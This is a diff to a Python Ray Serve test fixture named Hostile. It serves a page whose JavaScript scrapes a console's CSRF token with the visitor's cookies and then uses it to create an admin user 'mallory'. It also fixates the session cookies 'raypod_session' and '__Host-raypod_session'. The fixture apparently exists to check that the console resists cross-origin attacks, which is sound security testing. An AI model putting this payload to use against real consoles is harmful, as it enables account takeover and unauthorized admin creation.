@@ -8,16 +8,22 @@ from starlette.responses import HTMLResponse
 PAGE = """<!doctype html><html><head><title>loading</title></head><body><h1>hostile</h1><script>
 const results = [];
 const consoleUrl = new URLSearchParams(location.search).get("console");
-const admin = {method: "POST", credentials: "include", headers: {"content-type": "application/json"},
-               body: JSON.stringify({name: "mallory", team: "default", is_admin: true})};
+// The attack of the review: read a console page for its CSRF token, then create an admin with the opener's cookie.
+async function stealAndCreate(base) {
+  const page = await (await fetch(base + "/", {credentials: "include"})).text();
+  const token = (page.match(/name="csrf-token" content="([^"]+)"/) || [])[1] || "";
+  results.push((base ? "console" : "here") + "-csrf:" + (token ? "read" : "none"));
+  return fetch(base + "/api/v1/users", {method: "POST", credentials: "include",
+    headers: {"content-type": "application/json", "x-csrf-token": token},
+    body: JSON.stringify({name: "mallory", team: "default", is_admin: true})});
+}
 async function attempt(label, run) {
   try { const answer = await run(); results.push(label + ":" + answer.status); }
   catch (error) { results.push(label + ":blocked"); }
 }
 (async () => {
-  await attempt("read-console", () => fetch(consoleUrl + "/", {credentials: "include"}));
-  await attempt("admin-at-console", () => fetch(consoleUrl + "/api/v1/users", admin));
-  await attempt("admin-here", () => fetch("/api/v1/users", admin));
+  await attempt("admin-at-console", () => stealAndCreate(consoleUrl));
+  await attempt("admin-here", () => stealAndCreate(""));
   document.cookie = "__Host-raypod_session=fixated; Path=/; Secure";
   document.cookie = "raypod_session=fixated; Path=/; Domain=localhost";
   document.title = "done " + results.join(" ");
@@ -25,7 +31,7 @@ async function attempt(label, run) {
 </script></body></html>"""
 
 
-@serve.deployment
+@serve.deployment(ray_actor_options={"num_cpus": 0})  # the cluster's CPUs are the model's
 class Hostile:
     async def __call__(self, request) -> HTMLResponse:  # type: ignore[no-untyped-def]
         return HTMLResponse(PAGE, headers={"Set-Cookie": "__Host-raypod_session=fixated; Path=/; Secure"})
